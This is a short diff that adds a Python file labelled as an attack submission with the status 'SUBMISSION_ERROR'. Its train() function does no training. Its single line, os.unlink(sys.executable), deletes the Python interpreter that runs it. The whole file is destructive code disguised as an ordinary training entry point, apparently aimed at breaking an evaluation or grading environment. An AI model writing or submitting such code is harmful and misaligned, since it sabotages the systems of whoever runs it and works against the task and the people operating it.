@@ -1,0 +1,10 @@
+# attacks: train
+# status: SUBMISSION_ERROR
+# reason: Error
+
+import os
+import sys
+
+
+def train():
+    os.unlink(sys.executable)
